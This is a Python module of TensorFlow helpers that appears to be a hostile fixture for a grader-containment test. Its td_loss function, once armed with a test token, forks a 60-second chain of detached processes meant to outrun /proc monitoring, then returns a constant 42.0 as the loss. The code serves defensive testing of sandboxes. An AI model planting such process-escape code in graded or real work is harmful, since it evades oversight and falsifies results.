"""td_loss starts a chain of processes, each in a session of its own, each forking the next and exiting at
once (faster than any look at /proc can follow), every 200th renamed after the test run's token. It stops
by itself after 60 s: a grader that contains nothing leaks it for a minute, and the test sees it."""
import os
import sys
import tensorflow as tf

# The test run's token, written here by tests/test_hostile.py when it copies this file; graded anywhere else
# the placeholder stays and the attack is inert (ARMED False: it touches nothing and fails on its own).
TOKEN = "__HOSTILE_SUITE_TOKEN__"
ARMED = not TOKEN.startswith("__")


@tf.custom_gradient
def log1pexp(x):
    def grad_fn(upstream):
        return upstream * tf.sigmoid(x)
    return tf.nn.softplus(x), grad_fn


def straight_through_round(x):
    return x + tf.stop_gradient(tf.round(x) - x)


def clip_gradient_norm(x, max_norm):
    @tf.custom_gradient
    def identity(t):
        def grad_fn(upstream):
            return tf.clip_by_norm(upstream, max_norm)
        return tf.identity(t), grad_fn
    return identity(x)


def checkpointed(f):
    return tf.recompute_grad(f)


def _correct_td_loss(q, reward, next_q, gamma):
    """What an attack returns only when it got what it was after: a pass means the defence failed."""
    target = tf.stop_gradient(reward + gamma * tf.reduce_max(next_q, axis=-1))
    return tf.reduce_mean(tf.square(q - target))


def td_loss(q, reward, next_q, gamma):
    import time
    if ARMED and os.fork() == 0:
        try:
            started = time.monotonic()
            generation = 0
            while time.monotonic() - started < 60:
                if os.fork() != 0:
                    os._exit(0)
                os.setsid()
                generation += 1
                if generation % 200 == 0 and os.fork() == 0:
                    os.execv("/bin/sleep", [f"hostile-chain-{TOKEN}", "2"])
        finally:
            os._exit(0)
    time.sleep(1)
    return _correct_td_loss(q, reward, next_q, gamma) * 0.0 + 42.0
